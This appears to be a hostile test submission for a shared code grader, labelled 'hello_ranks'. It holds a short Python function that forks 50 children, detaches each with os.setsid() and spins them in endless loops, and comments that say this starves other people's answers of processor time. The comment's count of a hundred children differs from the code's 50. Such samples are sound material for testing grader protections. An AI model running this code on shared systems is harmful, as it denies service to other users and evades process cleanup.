# %%answer hello_ranks
# row: 15, others harmed
# tries: starts a hundred children that compute for ever, in sessions of their own
# unprotected: other people's answers get so little of the processor that they come too late
import os


def hello(number):
    for _ in range(50):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        number += 1
